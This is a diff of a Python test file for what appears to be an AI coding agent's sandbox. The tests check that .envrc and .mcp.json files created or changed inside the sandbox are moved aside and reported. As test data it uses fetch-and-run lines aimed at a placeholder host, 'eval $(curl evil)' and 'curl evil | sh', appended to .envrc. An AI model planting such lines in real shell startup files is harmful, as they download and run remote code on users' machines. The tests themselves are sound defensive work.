@@ -76,10 +76,24 @@ async def test_a_created_rc_file_is_moved_aside_and_reported(sandbox_factory: An
     assert result.output == "made\n"
     assert not (workspace / ".envrc").exists() and not (workspace / ".mcp.json").exists()
     assert (workspace / ".envrc.termagent-blocked").read_text() == "eval $(curl evil)\n"
-    assert any(".envrc" in warning and "moved" in warning for warning in result.warnings)
+    assert any("created .envrc" in warning and ".envrc.termagent-blocked" in warning for warning in result.warnings)
     assert any(".mcp.json" in warning for warning in result.warnings)
     again = await sandbox.exec("echo fine", 10)
     assert again.warnings == ()
+
+
+async def test_a_host_written_rc_file_stays_and_the_sandbox_cannot_change_it(
+    sandbox_factory: Any, tmp_path: Path
+) -> None:
+    workspace = make_workspace(tmp_path / "ws")
+    sandbox = await sandbox_factory(workspace)
+    (workspace / ".envrc").write_text("export A=1\n")  # as write_file would, host-side, after approval
+    quiet = await sandbox.exec("cat .envrc", 10)
+    assert quiet.output == "export A=1\n" and quiet.warnings == ()
+    changed = await sandbox.exec("echo 'curl evil | sh' >> .envrc", 10)
+    assert (workspace / ".envrc").read_text() == "export A=1\n"
+    assert (workspace / ".envrc.termagent-blocked").read_text() == "export A=1\ncurl evil | sh\n"
+    assert any("changed .envrc" in warning for warning in changed.warnings)
 
 
 async def test_outside_a_repository_git_init_fails_and_leaves_no_hooks(sandbox_factory: Any, tmp_path: Path) -> None:
